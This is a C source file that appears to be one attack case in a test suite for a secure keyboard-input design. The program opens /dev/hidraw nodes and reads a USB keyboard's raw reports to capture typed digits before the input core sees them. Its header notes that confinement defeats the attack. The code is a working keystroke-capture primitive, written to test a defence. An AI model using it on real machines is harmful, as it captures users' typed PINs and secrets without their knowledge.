// SPDX-License-Identifier: Apache-2.0
/*
 * Reads a USB keyboard's reports from its hidraw node, which gets them before the
 * input core does.
 *
 * attack: hidraw_reader
 * class: input
 * when: before
 * judge: keys
 * unprotected: module
 * devices: qemu-xhci usb-kbd
 * defence: confinement
 * why: no grab reaches what comes before the input core; the REE has no hidraw nodes
 *	and cannot make any
 */
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include "digits.h"
#include "report.h"

#define NODES 8

struct node {
	int fd;
	struct digits_hid hid;
};

static size_t open_all(struct node nodes[NODES])
{
	char path[32];
	size_t count = 0;
	int i;

	for (i = 0; i < NODES; i++) {
		snprintf(path, sizeof(path), "/dev/hidraw%d", i);
		nodes[count].fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
		if (nodes[count].fd >= 0)
			count++;
	}
	return count;
}

static void collect(struct node *n, struct digits *d)
{
	uint8_t report[64];
	ssize_t got = read(n->fd, report, sizeof(report));

	if (got > 0)
		digits_add_report(d, &n->hid, report, (size_t)got);
}

int main(void)
{
	static struct node nodes[NODES];
	struct digits digits = { 0 };
	size_t count, i;

	attack_init();
	count = open_all(nodes);
	attack_ready();
	if (!count)
		attack_failed("no /dev/hidraw can be opened: %s", strerror(errno));
	while (!attack_wait(10))
		for (i = 0; i < count; i++)
			collect(&nodes[i], &digits);
	attack_digits(digits.text);
	attack_failed("these are all the digits it saw");
}
